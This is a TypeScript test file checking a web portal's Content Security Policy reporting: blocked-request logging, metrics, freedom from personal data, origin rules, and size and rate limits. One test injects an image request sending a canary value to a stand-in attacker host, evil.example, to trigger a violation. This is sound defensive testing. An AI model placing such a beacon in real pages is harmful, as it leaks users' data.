import { freePort } from '../support/servers.ts';
import { send } from '../support/visitor.ts';
import { expect, test } from '../support/visitors.ts';

const PATH = '/api/csp-report';
const CANARY = 'canary-8e13';

const reported = (output: string) =>
  output
    .split('\n')
    .filter((line) => line.includes('"event":"csp-report"'))
    .map((line) => JSON.parse(line));

test('violations are reported, counted and logged without personal data', async ({ page, startOwn }) => {
  const port = await freePort();
  const portal = await startOwn({ METRICS_PORT: String(port) });
  await page.goto(`${portal.url}/sign-in?identifier=${CANARY}`);
  await page.evaluate((path) => {
    new Image().src = `https://evil.example/${path}?${path}`;
  }, CANARY);
  await expect
    .poll(() => reported(portal.output()))
    .toMatchObject([
      { directive: 'img-src', blocked: 'https://evil.example', page: '/sign-in', disposition: 'enforce' },
    ]);
  const text = await (await fetch(`http://127.0.0.1:${port}/metrics`)).text();
  expect(text).toContain('portal_csp_reports_total{directive="img-src",disposition="enforce"} 1');
  expect(portal.output() + text).not.toContain(CANARY);
});

test('reports are accepted from any origin, other content is not; too large and too many are refused', async ({
  startOwn,
}) => {
  const portal = await startOwn();
  const report = {
    'document-uri': `${portal.url}/profile`,
    'blocked-uri': 'inline',
    'effective-directive': 'style-src',
  };
  const body = JSON.stringify({ 'csp-report': report });
  const post = (type: string, text = body, more: Record<string, string> = {}) =>
    send(portal.url, { method: 'POST', path: PATH, headers: { 'content-type': type, ...more }, body: text });
  const old = 'application/csp-report';
  const origins: Record<string, string>[] = [{}, { origin: 'null' }, { origin: 'https://evil.example' }];
  for (const headers of origins) {
    expect((await post(old, body, { ...headers, 'sec-fetch-site': 'cross-site' })).status).toBe(204);
    const elsewhere = {
      method: 'POST',
      path: '/api/session',
      headers: { 'content-type': old, ...headers },
      body,
    };
    expect((await send(portal.url, elsewhere)).status).toBe(403);
  }
  expect((await post('application/reports+json', '[]')).status).toBe(204);
  expect((await post('application/json')).status).toBe(415);
  expect((await post(old, '{"x":')).status).toBe(400);
  expect((await post(old, '{}')).status).toBe(400);
  expect((await post(old, `"${'x'.repeat(70_000)}"`)).status).toBe(413);
  expect((await send(portal.url, { path: PATH })).status).toBe(405);
  const statuses = [];
  for (let sent = 0; sent < 30; sent++) statuses.push((await post(old)).status);
  expect(statuses.at(-1)).toBe(429);
  expect(reported(portal.output())).toHaveLength(1);
});
